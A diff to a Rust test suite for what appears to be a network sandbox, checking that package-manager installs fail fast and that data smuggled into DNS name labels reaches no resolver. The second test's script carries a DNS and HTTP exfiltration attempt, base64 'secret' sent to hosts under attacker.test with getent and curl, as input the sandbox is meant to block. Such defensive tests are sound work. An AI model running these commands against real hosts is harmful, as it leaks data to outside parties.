@@ -67,21 +67,16 @@ fn package_managers_end_at_the_first_refusal() {
         let manifest = stand.workspace.work().join("package.json");
         std::fs::write(&manifest, "{}").expect("written");
         stand.workspace.own(&manifest);
-        for (script, most) in [
-            (
-                "npm install --registry https://cdn.test/ --no-audit --no-fund left-pad",
-                2,
-            ),
-            (
-                "python3 -m pip download --disable-pip-version-check --index-url https://cdn.test/simple left-pad",
-                1,
-            ),
+        for script in [
+            "npm install --registry https://cdn.test/ --no-audit --no-fund left-pad",
+            "python3 -m pip download --disable-pip-version-check --index-url https://cdn.test/simple left-pad",
         ] {
             let ran = stand.run(OPENS, WEB, "", script);
             assert_ne!(ran.output.status.code(), Some(0), "{}", ran.told());
             assert_eq!(lines(&ran), [line("cdn.test")], "{}", ran.told());
+            // A connection that is closed they try six times and more, which takes minutes.
             let times = ran.report["denials"][0]["times"].as_u64();
-            assert!(times <= Some(most), "{script}: {}", ran.told());
+            assert!(times <= Some(3), "{script}: {}", ran.told());
         }
         assert!(stand.asked().is_empty());
     });
@@ -103,7 +98,7 @@ fn data_in_the_labels_of_a_name_reaches_no_name_server() {
         let script = r#"
 for data in c2VjcmV0 a.b.c.d.e; do
   getent ahosts $data.attacker.test
-  curl -sS -m 20 -o /dev/null -w "%{http_code}\n" http://$data.attacker.test/ https://$data.attacker.test/
+  curl -sS -m 20 -o /dev/null -o /dev/null -w "%{http_code}\n" http://$data.attacker.test/ https://$data.attacker.test/
 done
 python3 -c '
 import socket
